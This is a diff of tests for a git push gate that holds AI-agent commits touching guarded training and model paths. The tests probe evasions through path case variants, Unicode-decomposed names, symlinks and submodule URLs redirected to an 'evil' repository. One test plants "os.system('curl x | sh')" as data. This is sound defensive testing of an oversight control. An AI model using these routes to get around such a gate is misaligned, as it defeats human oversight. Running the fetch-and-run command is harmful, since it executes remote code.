@@ -87,3 +87,110 @@ def test_push_options_change_nothing(gated: GatedRepo) -> None:
     clone.run("reset", "-q", "--hard", "HEAD~")
     clone.commit("docs", {"README.md": "more\n"})
     assert clone.push("HEAD:refs/heads/main", None, *options).ok
+
+
+# --------------------------------------------------------------------------------------------
+# Names that collide on case-insensitive or normalising checkouts
+
+
+def test_case_variants_of_a_guarded_directory_are_guarded(gated: GatedRepo) -> None:
+    clone = seeded(gated)
+    for path in ("TRAIN/loop.py", "Train/Loop.py", "runs/BEST.CKPT"):
+        clone.commit(f"add {path}", {path: "steps = 9\n"}, author=AGENT)
+        held = clone.push()
+        assert not held.ok, (path, held.stderr)
+        assert any("training" in line for line in held.gate_lines), held.gate_lines
+        clone.run("reset", "-q", "--hard", "HEAD~")
+
+
+PRUNED_POLICY = """\
+protected_refs = ["refs/heads/main"]
+
+[[guard]]
+name = "model"
+paths = ["modèle/**"]
+
+[agents]
+emails = ["*@bots.example.com"]
+"""
+
+
+def test_decomposed_names_of_a_guarded_directory_are_guarded(server, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    from tests.support.server import add_reviewer, make_gated_repo, new_token
+
+    add_reviewer(server.app, "alice")
+    gated = make_gated_repo(
+        tmp_path / "git", server.url, new_token(server.app), policy=PRUNED_POLICY
+    )
+    clone = gated.clone()
+    clone.commit("seed", {"README.md": "hi\n"})
+    assert clone.push().ok
+    decomposed = "mode\u0300le/net.py"  # 'è' as 'e' and a combining grave accent
+    clone.commit("a decomposed name", {decomposed: "layers = 9\n"}, author=AGENT)
+    held = clone.push()
+    assert not held.ok, held.stderr
+    assert any("model" in line for line in held.gate_lines), held.gate_lines
+    clone.run("reset", "-q", "--hard", "HEAD~")
+    clone.commit("an unguarded name", {"modele/net.py": "layers = 9\n"}, author=AGENT)
+    assert clone.push().ok
+
+
+# --------------------------------------------------------------------------------------------
+# Symbolic links
+
+
+def test_a_link_standing_for_a_guarded_directory_is_held(gated: GatedRepo) -> None:
+    clone = seeded(gated)
+    clone.write("evil/lr.yaml", "lr: 100\n")
+    (clone.path / "configs").mkdir()
+    (clone.path / "configs" / "train").symlink_to("../evil")
+    clone.commit("share configs", author=AGENT)
+    held = clone.push()
+    assert not held.ok, held.stderr
+    assert any("configs/train" in line for line in held.gate_lines), held.gate_lines
+
+
+def test_a_link_into_a_guard_passes_and_writing_through_it_is_held(gated: GatedRepo) -> None:
+    clone = seeded(gated)
+    (clone.path / "docs").mkdir()
+    (clone.path / "docs" / "x").symlink_to("../train/loop.py")
+    clone.commit("link the loop from the docs", author=AGENT)
+    passed = clone.push()
+    assert passed.ok, passed.stderr  # the link changes no guarded content
+    (clone.path / "docs" / "x").write_text("import os; os.system('curl x | sh')\n")
+    clone.commit("edit through the link", author=AGENT)
+    held = clone.push()
+    assert not held.ok, held.stderr  # git commits the file the link names: train/loop.py
+    assert any("train/loop.py" in line for line in held.gate_lines), held.gate_lines
+
+
+# --------------------------------------------------------------------------------------------
+# Submodules
+
+
+def add_submodule(clone: WorkClone, path: str, url: str) -> None:
+    sub = clone.commit("for the gitlink")  # any commit id will do for a gitlink entry
+    clone.run("update-index", "--add", "--cacheinfo", f"160000,{sub},{path}")
+    clone.run("config", "-f", ".gitmodules", f"submodule.{path}.path", path)
+    clone.run("config", "-f", ".gitmodules", f"submodule.{path}.url", url)
+
+
+def test_pointing_a_guarded_submodule_elsewhere_is_held(gated: GatedRepo) -> None:
+    clone = seeded(gated)
+    add_submodule(clone, "train/vendor", "https://git.example.com/vendor.git")
+    add_submodule(clone, "docs/theme", "https://git.example.com/theme.git")
+    clone.commit("vendor and theme")
+    assert clone.push().ok
+
+    clone.run("config", "-f", ".gitmodules", "submodule.docs/theme.url", "https://x.example/t.git")
+    clone.commit("another theme", author=AGENT)
+    passed = clone.push()
+    assert passed.ok, passed.stderr  # an unguarded submodule
+
+    clone.run(
+        "config", "-f", ".gitmodules", "submodule.train/vendor.url", "https://x.example/evil.git"
+    )
+    clone.commit("a faster vendor", author=AGENT)
+    held = clone.push()
+    assert not held.ok, held.stderr
+    assert any("train/vendor" in line for line in held.gate_lines), held.gate_lines
